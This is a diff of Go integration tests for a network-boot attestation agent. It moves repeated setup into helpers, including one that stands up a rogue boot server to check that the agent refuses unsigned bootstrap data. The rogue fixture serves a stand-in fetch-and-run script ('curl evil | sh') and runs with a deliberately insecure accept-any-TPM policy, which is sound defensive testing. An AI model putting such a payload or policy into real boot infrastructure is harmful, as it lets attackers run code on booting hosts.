@@ -53,31 +53,14 @@ func TestYonderAgentAttestCommand(t *testing.T) {
 	g.Expect(err).NotTo(HaveOccurred())
 	t.Cleanup(func() { _ = svcs.Stop() })
 
-	script, err := exec.Command("nsenter", "--net="+host.NamespacePath, "curl", "-sS", "--fail",
-		"http://"+svcs.HTTPAddr.String()+"/ipxe/"+mac.String()).CombinedOutput()
-	g.Expect(err).NotTo(HaveOccurred(), string(script))
-	var kernelLine string
-	for _, l := range strings.Split(string(script), "\n") {
-		if strings.HasPrefix(l, "kernel ") {
-			kernelLine = l
-		}
-	}
-	g.Expect(kernelLine).To(ContainSubstring("yonder.ticket="))
 	work := t.TempDir()
 	cmdline := filepath.Join(work, "cmdline")
-	g.Expect(os.WriteFile(cmdline, []byte(strings.TrimPrefix(kernelLine, "kernel ")), 0o600)).To(Succeed())
-
-	dir, err := os.MkdirTemp("", "yswtpm-")
-	g.Expect(err).NotTo(HaveOccurred())
-	sw, err := swtpm.Start(ctx, dir)
-	g.Expect(err).NotTo(HaveOccurred())
-	t.Cleanup(func() { _ = sw.Stop(); _ = os.RemoveAll(dir) })
+	g.Expect(bootCmdline(t, host, "http://"+svcs.HTTPAddr.String()+"/ipxe/"+mac.String(), cmdline)).To(ContainSubstring("yonder.ticket="))
+	sw := startSwtpm(t)
 
 	output := filepath.Join(work, "run", "bootstrap-data")
 	attestCmd := func() (string, error) {
-		b, err := exec.Command("nsenter", "--net="+host.NamespacePath, agentBin, "attest",
-			"--tpm", sw.Socket, "--cmdline", cmdline, "--output", output, "--server-key", serverKey).CombinedOutput()
-		return string(b), err
+		return agentAttest(host, agentBin, sw.Socket, cmdline, output, "--server-key", serverKey)
 	}
 	msg, err := attestCmd()
 	g.Expect(err).NotTo(HaveOccurred(), msg)
@@ -130,43 +113,19 @@ func TestAgentRefusesARogueBootServer(t *testing.T) {
 	mac := net.HardwareAddr{0x52, 0x54, 0x00, 0x7d, byte(n.Slot), 0x04}
 	_, serverKey := signingKey(t) // the provider's key, built into the victim's boot image
 
-	// The rogue: real boot HTTP server and attestation service, its own key (or none), its own data.
-	rogueStore := attest.NewMemoryStore()
-	rogueStore.SetBootstrapData("rogue/victim", []byte("#!/bin/sh\ncurl evil | sh\n"))
-	rogueSigner, _ := signingKey(t)
-	rogueSvc := attest.New(attest.Config{InsecureAcceptAnyEK: true, SigningKey: rogueSigner}, rogueStore, testr.New(t), nil)
+	// The rogue: real boot HTTP server and attestation service, its own key, its own data.
 	ln, err := net.Listen("tcp4", n.Gateway.String()+":0")
 	g.Expect(err).NotTo(HaveOccurred())
-	base := "http://" + ln.Addr().String()
-	rogue, err := bootserver.New(bootserver.Config{BaseURL: base, ArtifactsDir: t.TempDir(), Tickets: rogueSvc, API: rogueSvc.Handler(),
-		Lookup: inventory.NewStatic(inventory.Host{Name: "rogue/victim", MAC: mac, Boot: inventory.BootConfig{Kernel: "vmlinuz", Cmdline: "console=ttyS0"}})},
-		testr.New(t), nil)
-	g.Expect(err).NotTo(HaveOccurred())
-	srv := &http.Server{Handler: rogue.Handler(), ReadHeaderTimeout: 5 * time.Second}
-	go func() { _ = srv.Serve(ln) }()
-	t.Cleanup(func() { _ = srv.Close(); _ = rogue.Close() })
+	base, rogueSigner, _ := startRogueBootServer(t, ln, mac)
 
-	dir, err := os.MkdirTemp("", "yswtpm-")
-	g.Expect(err).NotTo(HaveOccurred())
-	sw, err := swtpm.Start(ctx, dir)
-	g.Expect(err).NotTo(HaveOccurred())
-	t.Cleanup(func() { _ = sw.Stop(); _ = os.RemoveAll(dir) })
+	sw := startSwtpm(t)
 	work := t.TempDir()
 	boot := func(extra ...string) (string, string, error) {
-		script, err := exec.Command("nsenter", "--net="+host.NamespacePath, "curl", "-sS", "--fail", base+"/ipxe/"+mac.String()).CombinedOutput()
-		g.Expect(err).NotTo(HaveOccurred(), string(script))
-		var kernelLine string
-		for _, l := range strings.Split(string(script), "\n") {
-			if strings.HasPrefix(l, "kernel ") {
-				kernelLine = l
-			}
-		}
 		cmdline := filepath.Join(work, "cmdline")
-		g.Expect(os.WriteFile(cmdline, []byte(strings.TrimPrefix(kernelLine, "kernel ")), 0o600)).To(Succeed())
+		bootCmdline(t, host, base+"/ipxe/"+mac.String(), cmdline)
 		output := filepath.Join(t.TempDir(), "bootstrap-data")
-		args := append([]string{"--net=" + host.NamespacePath, agentBin, "attest", "--tpm", sw.Socket, "--cmdline", cmdline, "--output", output}, extra...)
-		b, err := exec.Command("nsenter", args...).CombinedOutput()
-		return string(b), output, err
+		msg, err := agentAttest(host, agentBin, sw.Socket, cmdline, output, extra...)
+		return msg, output, err
 	}
 
 	noServed := filepath.Join(work, "no-served-key.pub")
@@ -198,4 +157,82 @@ func TestAgentRefusesARogueBootServer(t *testing.T) {
 		_, err = os.Stat(output)
 		g.Expect(err).To(MatchError(os.ErrNotExist))
 	}
+}
+
+// startRogueBootServer serves, on ln, what a rogue on the boot LAN runs: the real boot HTTP server and
+// attestation service, with its own signing key and an attestation policy that accepts any TPM, handing the
+// host at mac a script of its own that names itself as yonder.server= and, after attestation, data of its
+// choosing. It returns the server's base URL, its key and its store (where it records what it released).
+func startRogueBootServer(t *testing.T, ln net.Listener, mac net.HardwareAddr) (string, ed25519.PrivateKey, *attest.MemoryStore) {
+	t.Helper()
+	store := attest.NewMemoryStore()
+	store.SetBootstrapData(rogueHost, []byte("#!/bin/sh\ncurl evil | sh\n"))
+	signer, _ := signingKey(t)
+	svc := attest.New(attest.Config{InsecureAcceptAnyEK: true, SigningKey: signer}, store, testr.New(t), nil)
+	base := "http://" + ln.Addr().String()
+	rogue, err := bootserver.New(bootserver.Config{BaseURL: base, ArtifactsDir: t.TempDir(), Tickets: svc, API: svc.Handler(),
+		Lookup: inventory.NewStatic(inventory.Host{Name: rogueHost, MAC: mac, Boot: inventory.BootConfig{Kernel: "vmlinuz", Cmdline: "console=ttyS0"}})},
+		testr.New(t), nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	srv := &http.Server{Handler: rogue.Handler(), ReadHeaderTimeout: 5 * time.Second}
+	go func() { _ = srv.Serve(ln) }()
+	t.Cleanup(func() { _ = srv.Close(); _ = rogue.Close() })
+	return base, signer, store
+}
+
+// rogueHost is the name the rogue's own inventory gives its victim.
+const rogueHost = "rogue/victim"
+
+// bootCmdline does what iPXE does with a host's script: fetches it (curl, from inside the host's
+// namespace) from scriptURL, and writes the kernel line's arguments where `yonder-agent attest --cmdline`
+// reads them (/proc/cmdline on a booted host). It returns that kernel command line.
+func bootCmdline(t *testing.T, host *labnet.Attachment, scriptURL, path string) string {
+	t.Helper()
+	script, err := exec.Command("nsenter", "--net="+host.NamespacePath, "curl", "-sS", "--fail", scriptURL).CombinedOutput()
+	if err != nil {
+		t.Fatalf("failed to fetch the boot script %s: %v: %s", scriptURL, err, script)
+	}
+	var kernelLine string
+	for _, l := range strings.Split(string(script), "\n") {
+		if strings.HasPrefix(l, "kernel ") {
+			kernelLine = strings.TrimPrefix(l, "kernel ")
+		}
+	}
+	if err := os.WriteFile(path, []byte(kernelLine), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	return kernelLine
+}
+
+// startSwtpm manufactures a software TPM (its EK certificate signed by swtpm-localca) for one host.
+func startSwtpm(t *testing.T) *swtpm.TPM {
+	t.Helper()
+	dir, err := os.MkdirTemp("", "yswtpm-")
+	if err != nil {
+		t.Fatal(err)
+	}
+	sw, err := swtpm.Start(context.Background(), dir)
+	if err != nil {
+		_ = os.RemoveAll(dir)
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { _ = sw.Stop(); _ = os.RemoveAll(dir) })
+	return sw
+}
+
+// agentAttest runs `yonder-agent attest` inside the host's namespace against the swtpm at socket, with the
+// command line at cmdline, writing the bootstrap data to output and the instructions beside it
+// (agentInstructions), not to the machine's /run/yonder; extra are further flags (the key files).
+func agentAttest(host *labnet.Attachment, agentBin, socket, cmdline, output string, extra ...string) (string, error) {
+	args := append([]string{"--net=" + host.NamespacePath, agentBin, "attest", "--tpm", socket, "--cmdline", cmdline,
+		"--output", output, "--instructions", agentInstructions(output)}, extra...)
+	b, err := exec.Command("nsenter", args...).CombinedOutput()
+	return string(b), err
+}
+
+// agentInstructions is where agentAttest has the agent write the instructions for output.
+func agentInstructions(output string) string {
+	return filepath.Join(filepath.Dir(output), "instructions.json")
 }
